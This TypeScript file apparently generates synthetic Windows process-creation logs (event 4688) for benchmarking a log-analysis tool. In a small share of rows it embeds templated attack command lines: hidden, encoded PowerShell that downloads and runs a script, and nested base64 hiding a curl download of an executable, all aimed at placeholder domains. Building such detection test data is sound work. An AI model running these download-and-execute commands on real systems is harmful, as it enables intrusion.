import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** Command lines of an ordinary day. */
const COMMANDS = [
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Windows\\System32\\cscript.exe" //nologo inventory.vbs',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -Embedding',
  '\\??\\C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1',
  'net use \\\\files.contoso.example\\share /persistent:no',
  '"C:\\Program Files\\Contoso\\Agent\\agent.exe" --service --config "C:\\ProgramData\\Contoso\\agent.json"',
  'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly',
  'rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,3',
] as const;
const IMAGES = ['cmd', 'powershell', 'svchost', 'conhost', 'net', 'WMIC', 'rundll32'] as const;
const DOMAINS = ['contoso.example', 'cdn.contoso.example', 'update.example.net', 'files.example.org'] as const;
const HOSTS = 20;
const LATEST_PARENTS = 40;
const STEP_IN_MS = 37;

/** Numbers from a seed (SplitMix32), so that a corpus is the same on every machine. */
function randomOf(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x9e3779b9) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 16), 0x21f0aaad);
    mixed = Math.imul(mixed ^ (mixed >>> 15), 0x735a2d97);
    return ((mixed ^ (mixed >>> 15)) >>> 0) / 4294967296;
  };
}

/**
 * Writes process-creation events (4688, as Sentinel's SecurityEvent) as JSON lines: 2 % encoded PowerShell, 2 % nested
 * base64, 5 % with a URL and an address, 3 % with hashes; parents among the latest 40 processes of the same host.
 */
export async function writeCorpus(path: string, rows: number, seed: number): Promise<void> {
  const random = randomOf(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pick = <T>(values: readonly T[]): T => values[below(values.length)]!;
  const address = () => Array.from({ length: 4 }, () => 1 + below(254)).join('.');
  const digest = (bytes: number) =>
    createHash('sha512')
      .update(String(random()))
      .digest('hex')
      .slice(0, bytes * 2);
  const processes = Array.from({ length: HOSTS }, () => [{ id: 4, image: 'C:\\Windows\\System32\\smss.exe' }]);
  const out = createWriteStream(path);
  let block = '';
  for (let row = 0; row < rows; row++) {
    const host = below(HOSTS);
    let command: string = pick(COMMANDS);
    const kind = random();
    if (kind < 0.02) {
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${pick(DOMAINS)}/${digest(3)}.ps1'); $h='${digest(32)}'`;
      command = `powershell.exe -nop -w hidden -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
    } else if (kind < 0.04) {
      const inner = Buffer.from(`curl https://${pick(DOMAINS)}/${digest(4)} -o C:\\Temp\\${digest(3)}.exe`).toString(
        'base64',
      );
      command = `cmd /c echo ${Buffer.from(`run ${inner} from ${address()}`).toString('base64')}`;
    } else if (kind < 0.09)
      command += ` --url http://${pick(DOMAINS)}:${1 + below(65535)}/${digest(3)}?id=${digest(6)} --ip ${address()}`;
    else if (kind < 0.12) command += ` --sha256 ${digest(32)} --md5 ${digest(16)}`;
    const known = processes[host]!;
    const parent = pick(known);
    const id = (8 + below(60_000)) & ~3;
    const image = `C:\\Windows\\System32\\${pick(IMAGES)}.exe`;
    const event = {
      TimeGenerated: new Date(Date.UTC(2026, 10, 1) + row * STEP_IN_MS).toISOString(),
      EventID: 4688,
      Computer: `host${String(host).padStart(2, '0')}.contoso.example`,
      NewProcessName: image,
      NewProcessId: `0x${id.toString(16)}`,
      ProcessId: `0x${parent.id.toString(16)}`,
      ParentProcessName: parent.image,
      SubjectUserName: `user${below(200)}`,
      SubjectLogonId: `0x${(1 + below(400)).toString(16)}`,
      TargetLogonId: '0x0',
      SubjectUserSid: `S-1-5-21-${below(500)}`,
      CommandLine: command,
    };
    known.push({ id, image });
    if (known.length > LATEST_PARENTS) known.shift();
    block += `${JSON.stringify(event)}\n`;
    if (block.length > 1 << 20) {
      if (!out.write(block)) await once(out, 'drain');
      block = '';
    }
  }
  out.end(block);
  await once(out, 'finish');
}

/** Works with a corpus file: the given one, or one of `rows` rows in a temporary folder that is removed afterwards. */
export async function withCorpus<T>(
  options: { readonly data?: string | undefined; readonly rows: number },
  work: (path: string, scratch: string) => Promise<T>,
): Promise<T> {
  const scratch = await mkdtemp(join(tmpdir(), 'trailhound-bench-'));
  try {
    const path = options.data ?? join(scratch, 'corpus.jsonl');
    if (!options.data) await writeCorpus(path, options.rows, 1);
    return await work(path, scratch);
  } finally {
    await rm(scratch, { recursive: true, force: true });
  }
}
